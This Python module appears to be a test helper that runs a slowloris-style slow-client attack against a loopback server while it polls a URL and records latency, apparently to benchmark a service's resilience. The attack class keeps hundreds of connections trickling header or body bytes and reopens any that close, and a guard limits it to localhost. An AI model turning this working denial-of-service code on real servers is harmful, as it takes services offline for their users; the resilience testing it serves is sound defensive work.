"""A slow-client ("slowloris") attack and a poller measuring a URL meanwhile: for the
e2e tests and the benchmark of identity's serving layout, never against anything but
loopback.

``Trickle`` keeps ``headers`` connections sending one header byte per ``interval`` (the
request never ends) and ``bodies`` connections that sent whole headers announcing a
body and then trickle that body. A connection the server closes is reopened, as an
attacker would, so the count holds for the whole attack. ``poll`` asks a URL over a
fresh connection each time, as an IVR does, and records each answer and its latency.
"""

from __future__ import annotations

import http.client
import socket
import threading
import time
from dataclasses import dataclass, field
from urllib.parse import urlsplit

__all__ = ["Poll", "Trickle", "poll"]

# Long enough that no trickle ends within any attack we run (one byte per interval).
_ENDLESS = 100_000


@dataclass
class Trickle:
    host: str
    port: int
    headers: int = 200
    bodies: int = 0
    body_path: str = "/v1/sessions/introspect"
    body_headers: dict[str, str] = field(default_factory=dict)
    interval: float = 1.0
    reopened: int = 0
    _socks: list[tuple[socket.socket, str]] = field(default_factory=list)
    _stop: threading.Event = field(default_factory=threading.Event)
    _thread: threading.Thread | None = None

    def __post_init__(self) -> None:
        if self.host not in ("127.0.0.1", "::1", "localhost"):
            raise ValueError("the trickle attack runs against loopback only")

    def _open(self, kind: str) -> socket.socket:
        sock = socket.create_connection((self.host, self.port), timeout=5)
        sock.settimeout(2)
        if kind == "header":
            sock.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-Slow: ")
        else:
            head = "".join(f"{k}: {v}\r\n" for k, v in self.body_headers.items())
            sock.sendall(
                f"POST {self.body_path} HTTP/1.1\r\nHost: x\r\n{head}"
                f"Content-Type: application/json\r\nContent-Length: {_ENDLESS}\r\n\r\n"
                '{"token": "'.encode()
            )
        return sock

    def start(self) -> Trickle:
        """Open every connection (each has sent its first bytes), then trickle."""
        for kind, n in (("header", self.headers), ("body", self.bodies)):
            self._socks += [(self._open(kind), kind) for _ in range(n)]
        self._thread = threading.Thread(target=self._run, name="trickle", daemon=True)
        self._thread.start()
        return self

    def _run(self) -> None:
        while not self._stop.wait(self.interval):
            for i, (sock, kind) in enumerate(self._socks):
                if self._stop.is_set():
                    return
                try:
                    sock.send(b"a")
                except OSError:
                    try:  # the new one first: the attack never drops below its count
                        self._socks[i] = (self._open(kind), kind)
                        self.reopened += 1
                    except OSError:
                        pass  # the next round tries again
                    finally:
                        sock.close()

    def stop(self) -> None:
        """Stop trickling and close every attacking socket."""
        self._stop.set()
        if self._thread is not None:
            self._thread.join(30)
        for sock, _ in self._socks:
            sock.close()
        self._socks.clear()

    @property
    def open(self) -> int:
        return sum(1 for sock, _ in self._socks if sock.fileno() != -1)

    def __enter__(self) -> Trickle:
        return self.start()

    def __exit__(self, *exc: object) -> None:
        self.stop()


@dataclass
class Poll:
    """One answer: HTTP status (0: no answer within the timeout or an error), body, seconds."""

    status: int
    body: bytes
    seconds: float


def poll(
    url: str,
    headers: dict[str, str],
    duration: float,
    *,
    pause: float = 0.02,
    timeout: float = 2.0,
) -> list[Poll]:
    """GET ``url`` over a fresh connection each time for ``duration`` seconds."""
    parts = urlsplit(url)
    path = parts.path + (f"?{parts.query}" if parts.query else "")
    out: list[Poll] = []
    stop_at = time.monotonic() + duration
    while time.monotonic() < stop_at:
        began = time.perf_counter()
        conn = http.client.HTTPConnection(parts.hostname or "", parts.port, timeout=timeout)
        try:
            conn.request("GET", path, headers=headers)
            response = conn.getresponse()
            out.append(Poll(response.status, response.read(), time.perf_counter() - began))
        except (OSError, http.client.HTTPException):
            out.append(Poll(0, b"", time.perf_counter() - began))
        finally:
            conn.close()
        time.sleep(pause)  # pacing between polls, not synchronisation
    return out
